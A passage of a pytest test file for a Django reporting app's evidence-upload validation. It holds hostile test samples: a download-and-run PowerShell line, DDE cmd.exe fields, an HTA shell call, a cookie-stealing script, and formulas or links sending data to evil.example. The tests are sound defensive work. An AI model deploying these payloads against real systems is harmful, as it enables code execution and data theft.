"""Evidence files: checked by content, limited in size, downloadable only by those who may read the report."""

import base64
import binascii
import io
import struct
import warnings
import zipfile
import zlib
from pathlib import Path

import pytest
import weasyprint
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from PIL import Image

from reports.editing.evidence import clean_name, safe_file_name
from reports.models import AgencyReport, Evidence
from tests.reports.helpers import ReportPage, current_report, post_seen
from tests.reports.ole_files import ole_file

PDF = (
    b"%PDF-1.4\n1 0 obj<< /Type /Catalog /Pages 2 0 R >>endobj\n"
    b"2 0 obj<< /Type /Pages /Kids [3 0 R] /Count 1 >>endobj\n"
    b"3 0 obj<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>endobj\ntrailer<< /Root 1 0 R >>\n%%EOF\n"
)  # the smallest PDF a reader opens: one blank page
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SAVED = Path(__file__).resolve().parents[2] / "data" / "evidence"  # saved by LibreOffice


def png_bytes():
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, "PNG")
    return buffer.getvalue()


def jpeg_bytes():
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, "JPEG")
    return buffer.getvalue()


def word_97():
    return ole_file({("WordDocument",): b"\xec\xa5" + b"\x00" * 600, ("1Table",): b"\x00" * 64})


def excel_97():
    return ole_file({("Workbook",): b"\x09\x08" + b"\x00" * 600})


def python_docx_bytes():
    """A .docx as python-docx writes it (Word's own template: styles, settings, theme, fonts…)."""
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    return buffer.getvalue()


def openpyxl_bytes():
    import openpyxl

    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    return buffer.getvalue()


def docx_bytes(macros=False):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if macros:  # what Word saves as .docm
            archive.writestr(
                "[Content_Types].xml",
                '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                '<Override PartName="/word/document.xml" '
                'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
            )
            archive.writestr("word/vbaProject.bin", OLE_MAGIC + b"\x00" * 600)
        else:
            archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


@pytest.fixture(autouse=True)
def media(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path


def upload(client, report, name, content, code="III.3.b.3"):
    page = ReportPage(report).lead(code, results="Có minh chứng kèm theo.")
    data = page.data() | {page.field("lead", code, "new_evidence"): SimpleUploadedFile(name, content)}
    return client.post(f"/bao-cao/{report.pk}/", data)


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("bien-ban.pdf", PDF, "application/pdf"),
        ("anh.png", png_bytes(), "image/png"),
        ("bao-cao.docx", docx_bytes(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("anh.jpeg", jpeg_bytes(), "image/jpeg"),
        ("cu.doc", word_97(), "application/msword"),
        ("cu.xls", excel_97(), "application/vnd.ms-excel"),
        ("mau.docx", python_docx_bytes(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("bang.xlsx", openpyxl_bytes(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("lo.doc", (SAVED / "libreoffice.doc").read_bytes(), "application/msword"),
        ("lo.xls", (SAVED / "libreoffice.xls").read_bytes(), "application/vnd.ms-excel"),
        ("lo-cong-thuc.xls", (SAVED / "libreoffice-cross-sheet.xls").read_bytes(), "application/vnd.ms-excel"),
        ("lo-lien-ket-web.xls", (SAVED / "libreoffice-web-links.xls").read_bytes(), "application/vnd.ms-excel"),
        (
            "lo.docx",
            (SAVED / "libreoffice.docx").read_bytes(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "lo.xlsx",
            (SAVED / "libreoffice.xlsx").read_bytes(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
    ],
)
def test_it_accepts_real_documents(client, cast, report, name, content, kind):
    client.force_login(cast["canbo.ldtbxh"])
    assert upload(client, report, name, content).status_code == 302
    evidence = Evidence.objects.get(entry__report=report)
    assert (evidence.original_name, evidence.content_type, evidence.size) == (name, kind, len(content))
    response = client.get(f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/")
    assert b"".join(response.streaming_content) == content
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["Content-Type"] == kind and response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("gia.pdf", b"<html><script>alert(1)</script></html>", "không phải PDF, ảnh (JPEG, PNG) hay văn bản Office"),
        ("virus.exe", b"MZ\x90\x00" + b"\x00" * 100, "không phải PDF"),
        ("hong.pdf", b"%PDF-1.4\n1 0 obj<<", "tệp PDF không trọn vẹn"),
        ("hong.png", png_bytes()[:40], "ảnh không đọc được"),
        ("hong.docx", b"PK\x03\x04" + b"\x00" * 50, "tệp Office bị hỏng"),
        ("rong.pdf", b"", "Tệp đã chọn rỗng (0 byte): chọn tệp minh chứng có nội dung."),  # not "Tập tin"
    ],
)
def test_it_refuses_wrong_or_broken_files_and_keeps_the_text(client, cast, report, name, content, message):
    client.force_login(cast["canbo.ldtbxh"])
    response = upload(client, report, name, content)
    assert response.status_code == 422
    html = response.content.decode()
    assert message in html and (name in html or not content)
    assert "Có minh chứng kèm theo." in html
    assert not Evidence.objects.exists()


@override_settings(EVIDENCE_MAX_BYTES=1024)
def test_it_refuses_an_oversized_file(client, cast, report):
    client.force_login(cast["canbo.ldtbxh"])
    response = upload(client, report, "lon.pdf", PDF + b"0" * 2048)
    assert response.status_code == 422
    assert "quá giới hạn" in response.content.decode()
    assert not Evidence.objects.exists()


@override_settings(EVIDENCE_MAX_BYTES=10 * 1024 * 1024)
def test_a_file_a_little_over_the_limit_reads_as_over_it(client, cast, report):
    """10 MiB and 100 bytes read "nặng 10 MB, quá giới hạn 10 MB": the bytes show the difference."""
    client.force_login(cast["canbo.ldtbxh"])
    response = upload(client, report, "lon.pdf", PDF + b"0" * (10 * 1024 * 1024 + 100 - len(PDF)))
    assert response.status_code == 422
    assert (
        "Tệp “lon.pdf” nặng hơn 10 MB (10.485.860 byte), quá giới hạn 10 MB (10.485.760 byte)."
        in response.content.decode()
    )


def test_removing_evidence_is_recorded(client, cast, report):
    client.force_login(cast["canbo.ldtbxh"])
    upload(client, report, "bien-ban.pdf", PDF)
    evidence = Evidence.objects.get()
    assert post_seen(client, f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/xoa/").status_code == 302
    assert not Evidence.objects.exists()
    assert [h.history_type for h in Evidence.history.order_by("history_date")] == ["+", "-"]
    html = client.get(f"/bao-cao/{report.pk}/lich-su/").content.decode()  # a draft's history: its agency's to read
    assert "Minh chứng “bien-ban.pdf”" in html and "đã gỡ bỏ" in html


def test_another_agency_cannot_download_it(client, cast, report):
    client.force_login(cast["canbo.ldtbxh"])
    upload(client, report, "bien-ban.pdf", PDF)
    evidence = Evidence.objects.get()
    client.force_login(cast["canbo.gddt"])
    assert client.get(f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/").status_code == 403
    other = current_report(report.cycle.plan, "GDDT")
    assert client.get(f"/bao-cao/{other.pk}/minh-chung/{evidence.pk}/").status_code == 404


# Issue 17, item 4: the files an outside probe got stored and served under their own names.
SCRIPT = b"\r\n@echo off\r\npowershell -c iwr http://x/a.exe -OutFile a.exe; start a.exe\r\n"
HTA = b'<hta:application id="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'
ATTACKS = [
    ("bien-ban.pdf.bat", PDF + SCRIPT, "Tệp “bien-ban.pdf.bat” có đuôi “.bat”: không nhận loại tệp này."),
    ("bien-ban.hta", PDF + HTA, "Tệp “bien-ban.hta” có đuôi “.hta”: không nhận loại tệp này."),
    ("bao-cao.html", PDF + b"<script>alert(document.cookie)</script>", "có đuôi “.html”: không nhận loại tệp này"),
    ("minh-chung\u202efdp.exe", PDF, "Tệp “minh-chungfdp.exe” có đuôi “.exe”: không nhận loại tệp này."),
    ("bien-ban.docx", docx_bytes(macros=True), "Tệp “bien-ban.docx” là tệp Office có macro: không nhận"),
    ("bien-ban.docm", docx_bytes(macros=True), "Tệp “bien-ban.docm” là tệp Office có macro: không nhận"),
    ("cu.doc", ole_file({("WordDocument",): b"x", ("Macros", "VBA", "dir"): b"x"}), "là tệp Office có macro"),
    ("ten-sai.jpg", PDF, "Tên tệp “ten-sai.jpg” có đuôi “.jpg” nhưng nội dung là PDF: đổi đuôi thành “.pdf”"),
    ("bien-ban", PDF, "Tệp “bien-ban” không có đuôi (như .pdf). Chỉ nhận tệp .doc, .docx, .jpeg, .jpg, .pdf, .png"),
]


@pytest.mark.parametrize(("name", "content", "message"), ATTACKS)
def test_it_refuses_a_name_that_does_not_fit_the_content_and_keeps_the_text(
    client, cast, report, tmp_path, name, content, message
):
    client.force_login(cast["canbo.ldtbxh"])
    response = upload(client, report, name, content)
    assert response.status_code == 422
    html = response.content.decode()
    assert message in html and "\u202e" not in html  # the name shown as it is, no reversed text
    assert "Có minh chứng kèm theo." in html  # what else was typed stays
    assert not Evidence.objects.exists() and not list(tmp_path.rglob("*.*"))


def test_the_stored_name_is_normalised(client, cast, report):
    client.force_login(cast["canbo.ldtbxh"])
    name = "Bie\u0302n ba\u0309n\u202e ho\u0323p\u200b <1>.PDF"  # decomposed, a bidi override, zero width
    assert upload(client, report, name, PDF).status_code == 302
    evidence = Evidence.objects.get()
    assert evidence.original_name == "Biên bản họp _1_.pdf" and evidence.content_type == "application/pdf"
    assert evidence.file.name.endswith(".pdf") and "\u202e" not in evidence.file.name
    response = client.get(f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/")
    assert response["Content-Type"] == "application/pdf" and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''Bi%C3%AAn%20b%E1%BA%A3n%20h%E1%BB%8Dp%20_1_.pdf"
    )


def test_a_file_stored_before_the_check_downloads_as_its_detected_type(client, cast, report):
    """A row left by the old upload (named .html, content PDF) is still served as a PDF attachment only."""
    from django.core.files.base import ContentFile

    entry = report.task_entries.get(section__code="III.3.b.3", role="lead")
    evidence = Evidence.objects.create(
        entry=entry, file=ContentFile(PDF, name="bao-cao.html"), original_name="bao-cao.html",
        content_type="application/pdf", size=len(PDF), uploaded_by=cast["canbo.ldtbxh"],
    )  # fmt: skip
    client.force_login(cast["canbo.ldtbxh"])
    response = client.get(f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/")
    assert response["Content-Type"] == "application/pdf" and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == 'attachment; filename="bao-cao.html.pdf"'


def test_the_file_field_offers_only_the_allowed_extensions(client, cast, report):
    client.force_login(cast["canbo.ldtbxh"])
    html = client.get(f"/bao-cao/{report.pk}/").content.decode()
    assert 'accept=".doc,.docx,.jpeg,.jpg,.pdf,.png,.pptx,.xls,.xlsx"' in html


def test_clean_name_keeps_letters_and_drops_what_hides_the_real_name():
    assert (
        clean_name("Bie\u0302n\u00a0ba\u0309n\u2066 \u202e\u200f  ../<x>\t.pdf ") == "Biên bản ..__x_.pdf"
    )  # no separator left
    assert clean_name("..\u202e") == "" and safe_file_name("..\u202e", "application/pdf") == "minh-chung.pdf"
    assert safe_file_name("anh.JPEG", "image/jpeg") == "anh.jpeg"
    assert safe_file_name("bao-cao.html", "application/pdf") == "bao-cao.html.pdf"


# Issue 17, second probe: macros hidden from a byte search, and OLE files that are no document.
def ooxml(content_types, parts=(), main="word/document.xml"):
    """A .docx-like zip: `content_types` as given (str, or bytes for another encoding), then `parts`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr(main, "<w:document/>")
        for name, data in parts:
            with warnings.catch_warnings():  # "Duplicate name": on purpose where a test writes one
                warnings.simplefilter("ignore")
                archive.writestr(name, data)
    return buffer.getvalue()


TYPES = '<?xml version="1.0" encoding="{encoding}"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
DOCM_MAIN = (
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>'
    "</Types>"
)
VBA = OLE_MAGIC + b"\x00" * 600
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="{type}" Target="{target}"{mode}/></Relationships>'
)
PLAIN = TYPES.format(encoding="UTF-8") + '<Default Extension="xml" ContentType="application/xml"/></Types>'
HIDDEN_MACROS = [
    # the probe's own file: the VBA project renamed, "macroEnabled" written as a character reference
    ("an-entity.docx", ooxml(TYPES.format(encoding="UTF-8") + DOCM_MAIN, [("word/vbadata.bin", VBA)]), "có macro"),
    # …or the content types in UTF-16
    ("utf16.docx", ooxml((TYPES.format(encoding="UTF-16") + DOCM_MAIN).encode("utf-16")), "có macro"),
    # the VBA project under an innocent name and type: found by its content
    ("ole-inside.docx", ooxml(PLAIN, [("word/media/image1.png", VBA)]), "có đối tượng nhúng"),
    ("bin-part.docx", ooxml(PLAIN, [("word/data.bin", b"\x00" * 100)]), "có đối tượng nhúng"),
    # a type outside the families of a plain document
    ("la.docx", ooxml(PLAIN.replace("application/xml", "application/x-msdownload")), "có đối tượng nhúng"),
    # a relationship to a VBA project, or a macro template fetched when the file opens
    (
        "rels.docx",
        ooxml(
            PLAIN,
            [
                (
                    "word/_rels/document.xml.rels",
                    RELS.format(
                        type="http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        target="x.xml",
                        mode="",
                    ),
                )
            ],
        ),
        "có macro",
    ),
    (
        "template.docx",
        ooxml(
            PLAIN,
            [
                (
                    "word/_rels/settings.xml.rels",
                    RELS.format(
                        type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
                        target="https://example.org/mau.dotm",
                        mode=' TargetMode="External"',
                    ),
                )
            ],
        ),
        "là tệp Office có liên kết tới nội dung bên ngoài",  # not "có macro": it has none of its own
    ),
    # Excel 4.0 macros: no VBA at all
    (
        "xlm.xlsx",
        ooxml(
            PLAIN.replace(
                "</Types>",
                '<Override PartName="/xl/macrosheets/sheet1.xml" '
                'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
            ),
            main="xl/workbook.xml",
        ),
        "có macro",
    ),
    # two content types parts: Python reads the last, Office may read the first (or either, by case)
    (
        "twice.docx",
        ooxml(TYPES.format(encoding="UTF-8") + DOCM_MAIN, [("[Content_Types].xml", PLAIN)]),
        "tệp Office bị hỏng",
    ),
    ("case.docx", ooxml(PLAIN, [("[content_types].xml", TYPES.format(encoding="UTF-8") + DOCM_MAIN)]), "bị hỏng"),
    # a DTD (entities of its own: "billion laughs") is not read at all
    (
        "dtd.docx",
        ooxml('<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY m "macroEnabled">]><Types/>'),
        "tệp Office bị hỏng",
    ),
    # Office 97–2003: the OLE header alone, no document in it, an Excel workbook's macros
    ("setup.doc", OLE_MAGIC + b"\x00" * 600, "tệp Office bị hỏng"),
    ("setup.xls", ole_file({("Payload",): b"MZ"}), "không phải văn bản Word hay bảng tính Excel 97–2003"),
    ("bang.xls", ole_file({("Workbook",): b"x", ("_VBA_PROJECT_CUR", "VBA", "dir"): b"x"}), "có macro"),
    ("nhung.doc", ole_file({("WordDocument",): b"x", ("ObjectPool", "_1", "Macros", "x"): b"x"}), "có macro"),
]


@pytest.mark.parametrize(("name", "content", "message"), HIDDEN_MACROS)
def test_it_refuses_macros_however_they_are_hidden(client, cast, report, tmp_path, name, content, message):
    client.force_login(cast["canbo.ldtbxh"])
    response = upload(client, report, name, content)
    assert response.status_code == 422
    html = response.content.decode()
    assert message in html and f"Tệp “{name}”" in html
    assert "Có minh chứng kèm theo." in html
    assert not Evidence.objects.exists() and not list(tmp_path.rglob("*.*"))


def test_an_ole_file_is_stored_as_what_its_main_stream_says(client, cast, report):
    client.force_login(cast["canbo.ldtbxh"])
    response = upload(client, report, "bang.doc", excel_97())
    assert response.status_code == 422
    assert "có đuôi “.doc” nhưng nội dung là Excel 97–2003 (.xls): đổi đuôi thành “.xls”" in response.content.decode()


def test_printer_settings_in_a_workbook_are_no_macro(client, cast, report):
    """Excel keeps the page setup of each sheet in xl/printerSettings/printerSettingsN.bin."""
    types = PLAIN.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
                          'officedocument.spreadsheetml.printerSettings"/></Types>')  # fmt: skip
    content = ooxml(types, [("xl/printerSettings/printerSettings1.bin", b"\x00" * 220)], main="xl/workbook.xml")
    client.force_login(cast["canbo.ldtbxh"])
    assert upload(client, report, "bang.xlsx", content).status_code == 302


def test_removing_evidence_from_a_page_older_than_the_report_is_refused(client, cast, report):
    """Issue 17 (the probe's second pass): the removal claimed the version it read itself, not the one the page
    showed; a page opened before someone else's save removed the file all the same."""
    client.force_login(cast["canbo.ldtbxh"])
    upload(client, report, "bien-ban.pdf", PDF)
    evidence = Evidence.objects.get()
    url = f"/ke-hoach/binh-son-ctdt-2021-2030/bao-cao/{report.pk}/minh-chung/{evidence.pk}/xoa/"
    report.refresh_from_db()
    for stale in ({"version": str(report.version - 1)}, {}, {"version": "x"}):
        response = client.post(url, stale)
        assert response.status_code == 409
        assert "Chưa gỡ minh chứng “bien-ban.pdf”: báo cáo đã thay đổi từ khi bạn mở trang" in response.content.decode()
        assert Evidence.objects.filter(pk=evidence.pk).exists() and evidence.file.storage.exists(evidence.file.name)
    page = client.get(f"/bao-cao/{report.pk}/").content.decode()
    form = page[page.index(f'action="{url}"') : page.index("</form>", page.index(f'action="{url}"'))]
    assert f'name="version" value="{report.version}"' in form  # the page's delete form carries its version
    assert AgencyReport.objects.get(pk=report.pk).version == report.version  # nothing claimed
    assert client.post(url, {"version": str(report.version)}).status_code == 302
    assert not Evidence.objects.exists()


def test_a_removed_file_leaves_the_disk_once_the_removal_commits(
    client, cast, report, django_capture_on_commit_callbacks
):
    """Nothing serves a removed file (its history keeps its name only), so it does not stay on the disk and in the
    backups."""
    client.force_login(cast["canbo.ldtbxh"])
    upload(client, report, "bien-ban.pdf", PDF)
    evidence = Evidence.objects.get()
    storage, name = evidence.file.storage, evidence.file.name
    assert storage.exists(name)
    with django_capture_on_commit_callbacks(execute=True):
        assert post_seen(client, f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/xoa/").status_code == 302
    assert not Evidence.objects.exists() and not storage.exists(name)
    assert Evidence.history.get(history_type="-").file == name  # the history names it, and serves nothing


# Issue 17, third probe: a file that fetches or runs something from outside when a reviewer opens it.
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EXTERNAL = ' TargetMode="External"'
LINK_REFUSED = "có liên kết tới tệp hoặc địa chỉ bên ngoài được tải về khi mở tệp"
DDE_REFUSED = "có trường hoặc công thức DDE"
FETCH_REFUSED = "có trường hoặc công thức lấy nội dung từ tệp hoặc địa chỉ bên ngoài"
EMBEDDED = "có đối tượng nhúng, điều khiển ActiveX hoặc phần không phải văn bản: không nhận"


def package(parts, types=PLAIN):
    """A zip of `parts` (name → text) behind plain content types."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", types)
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def word(body="<w:p/>", rels=()):
    """A .docx of `body`, with document relationships (type, target, mode)."""
    parts = {"word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>"}
    if rels:
        parts["word/_rels/document.xml.rels"] = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(
                f'<Relationship Id="rId{n}" Type="{REL}{kind}" Target="{target}"{mode}/>'
                for n, (kind, target, mode) in enumerate(rels, 1)
            )
            + "</Relationships>"
        )
    return package(parts)


def word_utf16(body):
    """A .docx of `body` whose document part is UTF-16 (big-endian) without a byte-order mark, as XML allows."""
    return package({"word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>".encode("utf-16-be")})


def word_spaced(body):
    """`word(body)` with its document part starting with whitespace (no XML declaration), as XML allows."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word(body))) as source, zipfile.ZipFile(buffer, "w") as archive:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "word/document.xml":
                data = b" \n" * 3000 + data[data.index(b"<w:document") :]
            archive.writestr(member, data)
    return buffer.getvalue()


def workbook(formula):
    return package(
        {
            "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            "xl/worksheets/sheet1.xml": (
                '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                f'<row r="1"><c r="A1"><f>{formula}</f><v>0</v></c></row></sheetData></worksheet>'
            ),
        }
    )


def field_runs(*pieces, result="1"):
    """A complex field whose instruction is split across runs; a piece (or the result) that is a tuple is a field
    nested there, made of its own pieces."""

    def runs(pieces):
        return "".join(
            field_runs(*piece)[5:-6]
            if isinstance(piece, tuple)
            else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
            for piece in pieces
        )

    shown = field_runs(*result)[5:-6] if isinstance(result, tuple) else f"<w:r><w:t>{result}</w:t></w:r>"
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs(pieces)}'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{shown}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


OUTSIDE = [
    ("frame.docx", word(rels=[("frame", "http://evil.example/f", EXTERNAL)]), LINK_REFUSED),
    ("anh.docx", word(rels=[("image", "file://evil.example/share/a.png", EXTERNAL)]), LINK_REFUSED),
    ("unc-anh.docx", word(rels=[("image", "\\\\evil.example\\share\\a.png", EXTERNAL)]), LINK_REFUSED),
    # a hyperlink to a share is followed with the Windows login too
    ("lien-ket-file.docx", word(rels=[("hyperlink", "file:///C:/Windows/System32/calc.exe", EXTERNAL)]), LINK_REFUSED),
    ("lien-ket-unc.docx", word(rels=[("hyperlink", "\\\\evil.example\\share", EXTERNAL)]), LINK_REFUSED),
    # an external target written without TargetMode
    ("khong-mode.docx", word(rels=[("image", "file://evil.example/share/a.png", "")]), LINK_REFUSED),
    # an external part of any other kind, in any part's relationships
    (
        "khung.docx",
        package(
            {
                "word/document.xml": f"<w:document {W}/>",
                "word/_rels/webSettings.xml.rels": RELS.format(
                    type=f"{REL}frame", target="http://evil.example/f", mode=EXTERNAL
                ),
            }
        ),
        LINK_REFUSED,
    ),
    # an altChunk: refused for what it is, another file's content brought in (29th probe: test_evidence_imports.py)
    (
        "altchunk.docx",
        word(rels=[("aFChunk", "http://evil.example/a.html", EXTERNAL)]),
        "nhúng nội dung của một tệp khác",
    ),
    (
        "bang-lien-ket.xlsx",
        package(
            {
                "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
                "xl/externalLinks/_rels/externalLink1.xml.rels": RELS.format(
                    type=f"{REL}externalLinkPath", target="file:///\\\\evil.example\\share\\a.xlsx", mode=EXTERNAL
                ),
            }
        ),
        LINK_REFUSED,
    ),
    # DDE fields: in one instrText, split across runs, in lower case, as a simple field
    ("dde.docx", word(field_runs('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')), DDE_REFUSED),
    ("dde-runs.docx", word(field_runs(" DD", "EAU", 'TO cmd.exe "/k calc"')), DDE_REFUSED),
    ("dde-thuong.docx", word(field_runs('ddeauto cmd.exe "/k calc"')), DDE_REFUSED),
    ("dde-simple.docx", word("<w:p><w:fldSimple w:instr=' DDE cmd.exe \"/k calc\"'/></w:p>"), DDE_REFUSED),
    # Excel: a DDE formula, or the DDE link Excel itself records
    ("dde.xlsx", workbook("cmd|' /C calc'!A0"), DDE_REFUSED),
    # fields that fetch a picture or a file (from a server, or a share that hands over the Windows login) as the
    # document opens or its fields update (fourth probe), as a simple field or across runs
    (
        "anh-ngoai.docx",
        word("<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/x.png\" \\d'/></w:p>"),
        FETCH_REFUSED,
    ),
    ("van-ban-ngoai.docx", word(field_runs(' INCLUDETEXT "\\\\\\\\10.0.0.1\\\\s\\\\a.docx" ')), FETCH_REFUSED),
    (
        "lien-ket-bang.docx",
        word(field_runs(' LINK Excel.Sheet.12 "\\\\\\\\evil\\\\s\\\\a.xlsx" "S!R1C1" \\a ')),
        FETCH_REFUSED,
    ),
    ("nhap.docx", word(field_runs(" IMP", 'ORT "http://evil.example/a.wmf" ')), FETCH_REFUSED),
    ("lien-ket-may-khac.docx", word(field_runs(' HYPERLINK "\\\\\\\\evil.example\\\\share" ')), FETCH_REFUSED),
    # a keyword or an address spelt by a nested field (QUOTE of character codes), a share written without quotes
    # or as the document's own place (\l) (probe 22)
    ("dde-long.docx", word(field_runs((" QUOTE 68 68 69 65 85 84 79 ",), ' cmd.exe "/k calc" ')), FETCH_REFUSED),
    (
        "anh-long.docx",
        word(field_runs((" QUOTE 73 78 67 76 85 68 69 ",), ' "http://evil.example/a.png" ')),
        FETCH_REFUSED,
    ),
    ("ma-ky-tu.docx", word(field_runs(" QUOTE 92 92 101 118 105 108 ")), FETCH_REFUSED),
    (
        "lien-ket-long.docx",
        word(field_runs(' HYPERLINK "', (" PAGE ",), '"')),
        FETCH_REFUSED,
    ),
    ("lien-ket-tran.docx", word(field_runs(" HYPERLINK \\\\evil.example\\share ")), FETCH_REFUSED),
    ("lien-ket-l.docx", word(field_runs(' HYPERLINK \\l "\\\\\\\\evil.example\\\\share" ')), FETCH_REFUSED),
    (
        "lien-ket-tep.docx",
        word(field_runs(' HYPERLINK "https://binhson.gov.vn" \\o "x" "file:///C:/a.exe" ')),
        FETCH_REFUSED,
    ),
    # formulas that send cells to a server or fetch from one when the sheet calculates, in a cell or a defined name
    ("gui-so-lieu.xlsx", workbook('_xlfn.WEBSERVICE("http://evil.example/?"&amp;B1)'), FETCH_REFUSED),
    ("anh-web.xlsx", workbook('_xlfn.IMAGE("http://evil.example/a.png")'), FETCH_REFUSED),
    ("mo-tep.xlsx", workbook('HYPERLINK("file://evil.example/share/a.exe","Mở")'), FETCH_REFUSED),
    ("ghep.xlsx", workbook('HYPERLINK("\\"&amp;"\\evil\\share","x")'), FETCH_REFUSED),  # put together
    # a part that starts with whitespace, as XML allows (fifth probe)
    ("khoang-trang.docx", word_spaced(field_runs('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')), DDE_REFUSED),
    (
        "khoang-trang-anh.docx",
        word_spaced("<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/a\"'/></w:p>"),
        FETCH_REFUSED,
    ),  # fmt: skip
    # a data connection refreshed on open: a web query, a database on a share
    (
        "ket-noi.xlsx",
        package(
            {
                "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
                "xl/connections.xml": (
                    '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    '<connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://evil.example/leak"/>'
                    "</connection></connections>"
                ),
            }
        ),
        FETCH_REFUSED,
    ),
    (
        "ten.xlsx",
        package(
            {
                "xl/workbook.xml": (
                    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames>'
                    '<definedName name="x">WEBSERVICE("http://evil.example/")</definedName></definedNames></workbook>'
                ),
            }
        ),
        FETCH_REFUSED,
    ),
    (
        "dde-link.xlsx",
        package(
            {
                "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
                "xl/externalLinks/externalLink1.xml": (
                    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    '<ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
                ),
            }
        ),
        DDE_REFUSED,
    ),
]


# Sixth probe: a field built by other fields, a data connection in a part of another name, packages inside the file
# (a chart's workbook, an embedded document), and a file whose XML would take the server half a minute to read.
CONNECTION_TYPES = PLAIN.replace(
    "</Types>",
    '<Override PartName="/xl/dulieu.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
)
TOO_COMPLEX = "quá lớn hoặc quá phức tạp để kiểm tra"


def with_package(inner: bytes, name="word/embeddings/Microsoft_Excel_Worksheet.xlsx") -> bytes:
    """A .docx holding the package `inner`, as Word keeps a chart's workbook or an embedded document."""
    outer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word(field_runs(" PAGE ")))) as source, zipfile.ZipFile(outer, "w") as out:
        for member in source.infolist():
            out.writestr(member, source.read(member))
        out.writestr(name, inner)
    return outer.getvalue()


PACKAGES_AND_BUDGET = [
    # { SET k "INCL" } { { REF k }UDETEXT "\\\\attacker\\s\\a.docx" }: the keyword is a nested field's result
    (
        "dat-ten.docx",
        word(field_runs(' SET k "INCL" ') + field_runs((" REF k ",), 'UDETEXT "\\\\\\\\evil.example\\\\s\\\\a.docx" ')),
        FETCH_REFUSED,
    ),
    (
        "ket-noi-doi-ten.xlsx",
        package(
            {
                "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
                "xl/dulieu.xml": (
